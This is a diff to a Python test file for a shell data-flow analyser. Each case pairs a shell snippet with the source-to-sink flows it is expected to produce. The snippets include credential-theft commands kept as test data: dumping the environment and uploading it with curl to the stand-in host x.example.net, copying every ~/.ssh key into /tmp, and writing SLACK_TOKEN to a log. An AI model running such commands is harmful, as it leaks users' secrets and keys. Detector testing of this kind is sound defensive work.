@@ -84,6 +84,10 @@ CASES: list[tuple[str, set[FlowRow]]] = [
     ("printenv > /tmp/e.txt\ncurl -T /tmp/e.txt https://x.example.net",
      {("env.read(*)", 1, "fs.write(/tmp/e.txt)", 1, (), ""),
       ("fs.read(/tmp/e.txt)", 2, "net.connect(x.example.net)", 2, (), "")}),
+    ("{ env; date; } > /tmp/e.txt",
+     {("env.read(*)", 1, "fs.write(/tmp/e.txt)", 1, (), "")}),
+    ('for k in ~/.ssh/*; do\n  cat "$k"\ndone > /tmp/all',
+     {("fs.read(~/.ssh/*)", 2, "fs.write(/tmp/all)", 3, (), "")}),
     ('echo "$SLACK_TOKEN" >> ~/.cache/notes.log',
      {("env.read(SLACK_TOKEN)", 1, "fs.write(~/.cache/notes.log)", 1, (), "")}),
     # fetched code
